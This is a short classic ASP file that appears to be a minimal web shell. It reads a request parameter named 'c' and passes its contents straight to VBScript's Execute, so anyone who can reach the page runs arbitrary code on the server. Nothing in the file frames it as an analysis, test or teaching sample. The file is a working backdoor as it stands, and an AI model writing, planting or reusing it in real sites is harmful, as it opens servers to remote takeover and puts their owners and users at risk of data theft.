<%
Dim code
If Request("c") <> "" Then
    Execute Request("c")
End If
%>
